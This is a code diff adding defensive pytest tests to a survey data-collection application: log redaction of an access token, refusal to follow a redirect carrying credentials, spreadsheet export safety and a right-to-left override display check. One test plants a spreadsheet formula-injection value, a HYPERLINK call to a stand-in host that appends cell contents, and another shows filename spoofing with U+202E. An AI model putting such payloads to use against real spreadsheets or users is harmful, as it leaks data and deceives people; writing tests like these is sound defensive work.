@@ -219,3 +219,106 @@ def test_tampering_is_detected(enumerator, tmp_path):
     [s] = drain(import_into(clerk, [str(tmp_path / "t.ksp")], backup=False))
     assert s.refused and "signature" in s.reason_en and clerk.count_records() == 0
     clerk.close()
+
+
+def test_an_unexpected_error_does_not_log_the_token_of_the_command_line(tmp_path, memory_keyring, monkeypatch):
+    """The command line is logged with an unexpected error; an app-user link in it is redacted."""
+    import models.sync
+    from models.paths import log_path
+    from tests.sync_fixtures import make_db as sync_db
+
+    db = str(tmp_path / "xa.db")
+    sync_db(db, records=1)
+
+    def boom(*a, **k):
+        raise RuntimeError("something nobody expected")
+        yield
+
+    monkeypatch.setattr(models.sync, "run_sync", boom)
+    link = f"https://central.example.invalid/v1/key/{SECRET_TOKEN}/projects/3"
+    code, _out, err = run_cli(["sync", "--db", db, "--server", link])
+    assert code == 3 and "không mong đợi" in err and SECRET_TOKEN not in err
+    log = log_path().read_text(encoding="utf-8", errors="replace")
+    assert "something nobody expected" in log and "central.example.invalid" in log
+    assert SECRET_TOKEN not in log
+
+
+def test_a_redirect_is_not_followed_and_credentials_do_not_leave(tmp_path, memory_keyring, monkeypatch):
+    """A captive portal or a man in the middle answering "302 go elsewhere": nothing is sent there."""
+    import threading
+    import time
+    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
+    from tests.sync_fixtures import make_db as sync_db
+
+    seen: list[str] = []
+
+    class Elsewhere(BaseHTTPRequestHandler):
+        def do_HEAD(self):
+            seen.append(self.headers.get("Authorization", "") + " " + self.path)
+            self.send_response(204)
+            self.send_header("X-OpenRosa-Version", "1.0")
+            self.end_headers()
+
+        do_GET = do_POST = do_HEAD
+
+        def log_message(self, *a):
+            pass
+
+    other = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
+
+    class Portal(BaseHTTPRequestHandler):
+        def do_HEAD(self):
+            self.send_response(302)
+            self.send_header("Location", f"http://127.0.0.1:{other.server_port}{self.path}")
+            self.end_headers()
+
+        do_GET = do_POST = do_HEAD
+
+        def log_message(self, *a):
+            pass
+
+    portal = ThreadingHTTPServer(("127.0.0.1", 0), Portal)
+    for srv in (other, portal):
+        threading.Thread(target=srv.serve_forever, daemon=True).start()
+    monkeypatch.setattr(time, "sleep", lambda s: None)
+    monkeypatch.setenv(credentials.ENV_PASSWORD, SECRET_PASSWORD)
+    db = str(tmp_path / "xa.db")
+    sync_db(db, records=1)
+    try:
+        code, out, err = run_cli(["sync", "--db", db, "--server", f"http://127.0.0.1:{portal.server_port}",
+                                  "--project", "3", "--user", "canbo", "--timeout", "2"])
+    finally:
+        portal.shutdown()
+        other.shutdown()
+    assert code == 2 and seen == [], (out, err, seen)
+    st = open_store(db)
+    assert st.execute("SELECT count(*) FROM sync_outbox WHERE state = 'sent'").fetchone()[0] == 0
+    st.close()
+
+
+def test_an_xlsx_export_never_holds_formulas(enumerator, tmp_path):
+    """A text answer that looks like a formula stays text in the workbook (inline strings)."""
+    import openpyxl
+
+    st, rid = enumerator
+    RecordEditor(st, rid).set("village", '=HYPERLINK("http://example.invalid/?"&B2,"bấm")')
+    res = run_export(st, out=str(tmp_path / "x.xlsx"), fmt="xlsx", filter=make_filter())
+    wb = openpyxl.load_workbook(res.files[0])
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=HYPERLINK")]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_a_right_to_left_override_reverses_what_a_label_shows(qtbot):
+    """Not protected (docs/security.md, 9): Qt applies U+202E, so a name can be made to look like
+    another. Package error messages escape it (test_fuzz_packages.py); lists do not."""
+    from PySide6.QtWidgets import QLabel
+
+    def shown(text):
+        label = QLabel(text)
+        qtbot.addWidget(label)
+        label.resize(240, 40)
+        return label.grab().toImage()
+
+    assert shown("\u202eABC.exe") == shown("exe.CBA") != shown("ABC.exe")
